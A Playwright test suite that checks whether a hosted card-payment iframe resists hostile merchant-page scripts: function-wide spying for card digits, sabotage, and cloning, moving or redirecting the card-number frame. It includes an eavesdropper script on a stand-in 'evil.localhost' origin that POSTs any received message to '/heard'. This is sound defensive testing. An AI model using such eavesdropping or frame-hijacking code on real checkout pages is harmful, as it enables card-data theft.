import type { Page } from '@playwright/test';
import words from '#locales/en' with { type: 'json' };
import { cardForm } from '../pages/card-form.ts';
import { sabotage, spyingOnAll } from '../pages/shadowing.ts';
import { countPayments } from '../support/ledger.ts';
import { expect, test, type Sandbox } from '../support/fixtures.ts';

const number = '4928716350849271';
const cvv = '739';

/** Any five digits in a row of the number: the first six and the last four are told by the reference. */
const secrets = Array.from({ length: 9 }, (_, start) => number.slice(start + 2, start + 7));

const openWith = async (page: Page, sandbox: Sandbox, script: string): Promise<string> => {
  const checkoutId = await sandbox.createCheckout();
  const { head = '', body = '' } = sandbox.snippet({ checkoutId });
  await sandbox.merchantPage(page, { head: `<script>${script}</script>${head}`, body });
  return checkoutId;
};

test.describe('A page whose script took the place of all that scripts call', () => {
  test('sees no digit in any call, and the card is paid', async ({ page, sandbox }) => {
    const checkoutId = await openWith(page, sandbox, spyingOnAll(secrets));
    const form = cardForm(page);
    await form.fill({ number, cvv });
    expect(await page.evaluate('calls')).toBeGreaterThan(100);
    expect(await page.evaluate('taken')).toEqual([]);
    await page.evaluate(`JSON.stringify({ planted: '${secrets[4]}' })`);
    expect(await page.evaluate('taken')).toEqual(['JSON.stringify', 'JSON.stringify']);
    await page.evaluate('taken.length = 0');
    await page.evaluate(`addEventListener('pagehide', () => {
        sessionStorage.setItem('taken', 'taken: ' + taken.join()); })`);
    await form.pay();
    await sandbox.result(page);
    expect(await page.evaluate(`sessionStorage.getItem('taken')`)).toBe('taken: ');
    expect(await countPayments(sandbox, checkoutId)).toBe(1);
  });

  test('and made it fail or lie is answered: by a form, or by a word of what is wrong', async ({
    page,
    sandbox,
  }) => {
    const thrown: string[] = [];
    page.on('pageerror', ({ message }) => void thrown.push(message));
    await page.clock.install();
    for (const [what, row] of Object.entries(sabotage)) {
      await test.step(what, async () => {
        thrown.length = 0;
        await openWith(page, sandbox, row.script);
        const form = cardForm(page);
        // Whoever waits in vain says so after eight seconds.
        const isAnswered = async (): Promise<boolean> => {
          await page.clock.runFor(1_000);
          if (row.words === '') return form.number.isVisible();
          return (await page.getByRole('alert').allInnerTexts()).join() === words[row.words];
        };
        await expect.poll(isAnswered, { message: what, timeout: 15_000 }).toBe(true);
        if (row.words === '') await form.typeNumber(number);
        expect(page.url()).toBe(`${sandbox.site.origin}/checkout`);
        const own = row.thrown === undefined ? [] : [row.thrown];
        await expect.poll(() => [...new Set(thrown)]).toEqual(own);
      });
    }
  });
});

/** A document of somebody else that writes down whatever is sent to it. */
const eavesdropper = `<script>
  addEventListener('message', ({ data }) => {
    fetch('/heard', { method: 'POST', body: JSON.stringify(data) });
  });</script>`;

test.describe('A page that lays hands on the frames', () => {
  test('while a number is typed gets an empty frame, a silent copy, and no word for a stranger', async ({
    page,
    sandbox,
  }) => {
    const evil = sandbox.siteAt('evil.localhost');
    const strange = evil.serve({ path: '/frame', head: eavesdropper });
    const checkoutId = await openWith(page, sandbox, '');
    const form = cardForm(page);

    await test.step('a copy of the frame', async () => {
      await form.fill({ number, cvv });
      await page.evaluate(`new Promise((resolve) => {
        const own = document.querySelector('iframe[name="card.number"]');
        const copy = own.cloneNode(true);
        copy.onload = resolve;
        document.body.append(copy);
      })`);
      await expect(page.locator('iframe').last().contentFrame().locator('input')).toHaveCount(0);
      await page.evaluate(`document.body.lastElementChild.remove()`);
    });
    await test.step('a frame that is moved', async () => {
      await page.evaluate(`(() => {
        const own = document.querySelector('iframe[name="card.number"]');
        own.parentNode.append(own);
      })()`);
      await expect(form.number).toHaveValue('');
      await form.typeNumber(number);
    });
    await test.step('a frame that is sent elsewhere', async () => {
      await page.evaluate(`new Promise((resolve) => {
        const own = document.querySelector('iframe[name="card.number"]');
        window.ownAddress = own.src;
        own.addEventListener('load', resolve, { once: true });
        own.src = ${JSON.stringify(strange)};
      })`);
      await form.pay();
      await expect(form.message).not.toHaveText('');
      expect(evil.requests().filter((request) => request.includes('/heard'))).toEqual([]);
      await page.evaluate(`document.querySelector('iframe[name="card.number"]').src = ownAddress`);
      await expect(form.number).toHaveValue('');
    });
    await form.typeNumber(number);
    await form.pay();
    await sandbox.result(page);
    expect(evil.received().join()).not.toContain(number.slice(2, 8));
    expect(await countPayments(sandbox, checkoutId)).toBe(1);
  });

  for (const [what, script] of [
    ['removed', `own.remove()`],
    ['sent elsewhere', `own.src = 'about:blank'`],
    ['moved', `document.body.append(own)`],
  ] as const) {
    test(`while a payment is under way cannot make it two: ${what}`, async ({ page, sandbox }) => {
      const checkoutId = await openWith(page, sandbox, '');
      const form = cardForm(page);
      await form.fill({ number, cvv });
      const path = `/v1/checkouts/${checkoutId}/payment`;
      await sandbox.fault({ method: 'POST', path, kind: 'delay', delayMs: 600, times: 1 });
      const sent = page.waitForRequest((request) => request.url().endsWith('/payment'));
      await form.pay();
      await sent;
      await page.evaluate(`(() => {
        const own = document.querySelector('iframe[name="card.number"]'); ${script}; })()`);
      const isSettled = async (): Promise<boolean> =>
        page.url().includes('/result') || (await form.message.allTextContents()).join('') !== '';
      await expect.poll(isSettled, { timeout: 20_000 }).toBe(true);
      expect(await countPayments(sandbox, checkoutId)).toBeLessThanOrEqual(1);
    });
  }
});
